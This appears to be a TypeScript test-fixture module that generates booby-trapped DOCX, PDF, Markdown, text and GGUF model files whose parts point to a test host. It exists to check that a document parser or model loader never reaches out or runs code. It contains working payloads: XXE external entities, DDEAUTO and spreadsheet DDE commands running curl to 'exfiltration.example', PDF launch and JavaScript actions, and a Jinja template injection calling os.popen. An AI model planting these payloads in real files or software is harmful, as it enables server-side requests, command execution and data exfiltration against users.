import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { docxParagraph, zipFile } from '../../main/workers/parsing/fixtures.ts';
import { string } from './ggufFile.ts';
import { writeScriptedGguf } from './writeGguf.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';

/**
 * Documents that name addresses in every way their formats have: pictures, templates, objects, fields and fonts elsewhere,
 * entities, links, actions. `host` is where they lead; `folder` is where they are written. Returns their paths.
 */
export function writeHostileDocuments(folder: string, host: string): string[] {
  const address = (path: string): string => `http://${host}/${path}`;
  const files: Readonly<Record<string, string | Uint8Array>> = {
    'remote parts.docx': remoteParts(address),
    'entities.docx': docx({
      'word/document.xml': `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % remote SYSTEM "${address('docx.dtd')}"> %remote; <!ENTITY e SYSTEM "${address('entity')}">]>\n${documentXml('&e;')}`,
    }),
    'actions.pdf': actions(address),
    'page.md': [
      '# Notice',
      'The notice period is three months.',
      `![picture](${address('md.png')}) [link](${address('md-link')}) <${address('md-auto')}> ${address('md-bare')}`,
      `<img src="${address('html.png')}" srcset="${address('set.png')} 2x"><link rel="prefetch" href="${address('prefetch')}">`,
      `<iframe src="${address('frame')}"></iframe><video poster="${address('poster')}"></video><script src="${address('x.js')}"></script>`,
      `<style>@import url(${address('x.css')}); body { background: url(${address('background.png')}) }</style>`,
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="${address('svg.png')}"/><use href="${address('use.svg')}#a"/></svg>`,
      `![share](\\\\${host.split(':')[0]}\\share\\x.png) ![file](file://${host}/x.png)`,
    ].join('\n\n'),
    'entities.txt': [
      `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${address('text.dtd')}" [<!ENTITY e SYSTEM "${address('text-entity')}">]><x>&e;</x>`,
      `[InternetShortcut]\nURL=${address('shortcut')}\nIconFile=${address('icon.ico')}`,
      `=WEBSERVICE("${address('cell')}") =cmd|'/C curl ${address('dde')}'!A0`,
    ].join('\n'),
  };
  return Object.entries(files).map(([name, content]) => {
    const path = join(folder, name);
    writeFileSync(path, content);
    return path;
  });
}

/** A model file whose metadata and template hold addresses, and whose every answer is `answer`. */
export function writeModelWithAddresses(path: string, host: string, answer: string): void {
  const address = (name: string) => string(`http://${host}/model/${name}`);
  const template = `{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}`;
  const call = `{{ cycler.__init__.__globals__.os.popen('curl http://${host}/template') }}{% include 'http://${host}/include' %}`;
  writeScriptedGguf(path, answer, {
    metadata: {
      'general.url': address('home'),
      'general.source.url': address('source'),
      'general.repo_url': address('repository'),
      'general.license.link': address('licence'),
      'general.base_model.0.repo_url': address('base'),
      'tokenizer.chat_template': string(template + call),
    },
  });
}

function documentXml(text: string): string {
  const field = (instruction: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
${docxParagraph('The notice period is three months.')}<w:p><w:r><w:t>${text}</w:t></w:r></w:p>
${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl http://exfiltration.example/"')}
${field('INCLUDEPICTURE "http://exfiltration.example/field.png" \\d')}${field('INCLUDETEXT "http://exfiltration.example/text"')}
<w:p><w:hyperlink r:id="link"><w:r><w:t>link</w:t></w:r></w:hyperlink><w:r><w:drawing><a:blip r:link="picture"/></w:drawing></w:r>
<w:r><w:pict><v:imagedata r:id="picture"/></w:pict></w:r><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="object"/></w:object></w:r></w:p>
<w:altChunk r:id="chunk"/><w:subDoc r:id="sub"/></w:body></w:document>`;
}

function docx(parts: Readonly<Record<string, string>>): Uint8Array {
  return zipFile({
    '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"/>`,
    '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ...parts,
  });
}

function remoteParts(address: (path: string) => string): Uint8Array {
  const external = (id: string, type: string): string =>
    `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${address(id)}" TargetMode="External"/>`;
  const related = [
    external('link', 'hyperlink'),
    external('picture', 'image'),
    external('object', 'oleObject'),
    external('chunk', 'aFChunk'),
    external('sub', 'subDocument'),
    external('styles', 'styles'),
    external('header', 'header'),
    external('numbering', 'numbering'),
    external('footnotes', 'footnotes'),
    external('font', 'font'),
    `<Relationship Id="settings" Type="${OFFICE}/settings" Target="settings.xml"/>`,
  ];
  return docx({
    'word/document.xml': documentXml('plain'),
    'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="template"/></w:settings>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships">${related.join('')}</Relationships>`,
    'word/_rels/settings.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships">${external('template', 'attachedTemplate')}</Relationships>`,
  });
}

/** A PDF that wants to open, submit, launch, fetch and run something as soon as it is seen. Repaired while it is read. */
function actions(address: (path: string) => string): Uint8Array {
  const uri = (path: string): string => `<< /S /URI /URI (${address(path)}) >>`;
  const file = (path: string): string => `<< /Type /Filespec /FS /URL /F (${address(path)}) >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC ${uri('close')} >> /URI << /Base (${address('base')}) >>
/Names << /JavaScript << /Names [(a) 7 0 R] >> /EmbeddedFiles << /Names [(b) ${file('embedded')}] >> >> /AcroForm << /Fields [9 0 R] /XFA 10 0 R >> >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [8 0 R 9 0 R] /AA << /O ${uri('page')} >>
/Resources << /Font << /F1 5 0 R >> /XObject << /I1 11 0 R >> >> >>`,
    stream('', 'BT /F1 12 Tf 72 708 Td (The notice period is three months.) Tj ET q 100 0 0 100 72 500 cm /I1 Do Q'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /SubmitForm /F ${file('submit')} /Flags 4 /Next [<< /S /GoToR /F ${file('goto')} /D [0 /Fit] >> << /S /Launch /F ${file('launch')} >> 7 0 R] >>`,
    `<< /S /JavaScript /JS (app.launchURL\\("${address('script')}"\\); this.getURL\\("${address('script2')}"\\);) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${uri('link')} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [72 400 272 420] /AA << /F 7 0 R /PO ${uri('widget')} >> >>`,
    stream('', `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><submit target="${address('xfa')}"/></xdp:xdp>`),
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${file('image')}`,
      '\u0000',
    ),
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  return new Uint8Array(
    Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n%%EOF\n`, 'latin1'),
  );
}

function stream(dictionary: string, data: string): string {
  return `<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`;
}
